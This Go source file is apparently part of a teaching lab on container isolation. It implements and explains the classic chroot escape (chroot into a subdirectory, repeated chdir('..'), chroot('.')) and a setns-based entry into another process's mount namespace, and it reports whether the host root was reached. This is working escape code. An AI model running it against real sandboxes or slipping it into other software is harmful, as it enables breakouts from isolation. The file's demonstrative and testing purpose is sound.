package rootfs

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"runtime"
	"sort"
	"strconv"

	"golang.org/x/sys/unix"

	"github.com/lab-edu/lab/kernel/reexec"
)

// EscapeResult is what the classic chroot escape reached.
type EscapeResult struct {
	Escaped  bool     `json:"escaped"`   // the walk reached the host's root directory
	Reached  string   `json:"reached"`   // "dev:inode" of the directory it ended on
	HostRoot string   `json:"host_root"` // "dev:inode" of the host's /
	Entries  []string `json:"entries"`   // the first names in the "/" it reached
	Steps    []string `json:"steps"`     // the system calls it made, in order
}

// climbs is how many times the escape calls chdir(".."): more than any
// real directory depth.
const climbs = 64

// EscapeFrom runs the classic chroot escape in a throwaway child that is
// chrooted into dir: proof that root in a plain chroot gets out.
func EscapeFrom(ctx context.Context, dir string) (EscapeResult, error) {
	return runEscape(ctx, "dir", dir)
}

// EscapeFromProcess runs the escape as if from inside process pid: a child
// joins pid's mount namespace and takes pid's root directory, then tries
// to walk out. Against a pivot_root jail whose old root is detached it
// ends on the jail's own root.
func EscapeFromProcess(ctx context.Context, pid int) (EscapeResult, error) {
	return runEscape(ctx, "pid", strconv.Itoa(pid))
}

func runEscape(ctx context.Context, mode, target string) (EscapeResult, error) {
	var res EscapeResult
	host, err := fileID("/")
	if err != nil {
		return res, err
	}
	cmd := reexec.Command(entryEscape, mode, target)
	cmd.Env = Env
	stdout, stderr, err := Output(ctx, cmd)
	if err != nil {
		return res, fmt.Errorf("escape probe (%s %s): %w: %s", mode, target, err, bytes.TrimSpace(stderr))
	}
	if err := json.Unmarshal(stdout, &res); err != nil {
		return res, fmt.Errorf("escape probe: read its report: %w", err)
	}
	res.HostRoot = host
	res.Escaped = res.Reached == host
	return res, nil
}

// escapeMain is the child. It first becomes a prisoner (chroot into dir,
// or the root and mount namespace of a process), then escapes:
//
//  1. chroot into a subdirectory without chdir into it: the working
//     directory is now outside the root, and the kernel only stops ".."
//     at the root directory, which it never meets;
//  2. chdir("..") many times: at the top of each mount it continues in
//     the parent mount, up to the namespace's root mount;
//  3. chroot("."): the directory reached becomes the root.
func escapeMain() {
	// Every step below changes this thread's root and working directory,
	// so keep the goroutine on this thread.
	runtime.LockOSThread()
	if len(os.Args) != 3 {
		fail(2, "usage: %s dir DIR | pid PID", entryEscape)
	}
	var steps []string
	step := func(s string) { steps = append(steps, s) }
	switch os.Args[1] {
	case "dir":
		if err := Chroot(os.Args[2]); err != nil {
			fail(125, "%v", err)
		}
		step("chroot(" + strconv.Quote(os.Args[2]) + ")")
	case "pid":
		if err := enterProcess(os.Args[2]); err != nil {
			fail(125, "%v", err)
		}
		step("setns(/proc/" + os.Args[2] + "/ns/mnt, CLONE_NEWNS) and chroot(/proc/" + os.Args[2] + "/root)")
	default:
		fail(2, "unknown mode %q", os.Args[1])
	}
	jail, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fail(125, "open /: %v", err)
	}
	sub, made, err := subdirectory()
	if err != nil {
		fail(125, "%v", err)
	}
	if err := unix.Chroot(sub); err != nil {
		fail(125, "chroot %s: %v", sub, err)
	}
	step("chroot(" + strconv.Quote(sub) + ") without chdir: the working directory is now outside the root")
	for range climbs {
		if err := unix.Chdir(".."); err != nil {
			fail(125, "chdir ..: %v", err)
		}
	}
	step(fmt.Sprintf("chdir(\"..\") x %d", climbs))
	if err := unix.Chroot("."); err != nil {
		fail(125, "chroot .: %v", err)
	}
	step(`chroot(".")`)
	if made {
		_ = unix.Unlinkat(jail, sub[1:], unix.AT_REMOVEDIR)
	}
	reached, err := fileID("/")
	if err != nil {
		fail(125, "%v", err)
	}
	res := EscapeResult{Reached: reached, Steps: steps, Entries: firstNames("/", 12)}
	_ = json.NewEncoder(os.Stdout).Encode(res)
	os.Exit(0)
}

// enterProcess joins the mount namespace of pid and takes its root
// directory, on the calling (locked) thread, as nsenter -m -r does.
//
// The kernel rule: setns(fd, CLONE_NEWNS) fails with EINVAL when the
// caller's fs_struct (root, working directory, umask) is shared with
// another thread, because a mount namespace change must move the root and
// working directory of everyone who shares them. Go threads are created
// with CLONE_FS, so they all share one; a Go program can therefore not
// join a mount namespace as a whole (runc does it in C before the Go
// runtime starts). What a single locked thread can do is unshare(CLONE_FS)
// first: it gets a private copy of the fs_struct, and then setns works for
// that thread alone. That is enough here: this child runs only this
// goroutine and exits.
func enterProcess(pid string) error {
	root, err := unix.Open("/proc/"+pid+"/root", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return &os.PathError{Op: "open", Path: "/proc/" + pid + "/root", Err: err}
	}
	ns, err := unix.Open("/proc/"+pid+"/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return &os.PathError{Op: "open", Path: "/proc/" + pid + "/ns/mnt", Err: err}
	}
	if err := unix.Unshare(unix.CLONE_FS); err != nil {
		return fmt.Errorf("unshare CLONE_FS: %w", err)
	}
	if err := unix.Setns(ns, unix.CLONE_NEWNS); err != nil {
		return fmt.Errorf("setns mnt of %s: %w", pid, err)
	}
	// setns put us at the namespace's root mount; now take the process's
	// own root (it may be chrooted below that).
	if err := unix.Fchdir(root); err != nil {
		return fmt.Errorf("fchdir root of %s: %w", pid, err)
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot root of %s: %w", pid, err)
	}
	return unix.Chdir("/")
}

// subdirectory returns a directory of / to chroot into: an existing one
// when there is one, else a new one it made (made is true).
func subdirectory() (path string, made bool, err error) {
	entries, err := os.ReadDir("/")
	if err != nil {
		return "", false, err
	}
	for _, e := range entries {
		if e.IsDir() {
			return "/" + e.Name(), false, nil
		}
	}
	const dir = "/.lab-escape"
	if err := os.Mkdir(dir, 0o700); err != nil && !errors.Is(err, os.ErrExist) {
		return "", false, err
	}
	return dir, true, nil
}

func firstNames(dir string, n int) []string {
	entries, _ := os.ReadDir(dir)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	sort.Strings(names)
	return names[:min(n, len(names))]
}

// fileID is "dev:inode" of path: what identifies a directory whatever the
// path to it, in any mount namespace.
func fileID(path string) (string, error) {
	var st unix.Stat_t
	if err := unix.Stat(path, &st); err != nil {
		return "", &os.PathError{Op: "stat", Path: path, Err: err}
	}
	return fmt.Sprintf("%d:%d", st.Dev, st.Ino), nil
}
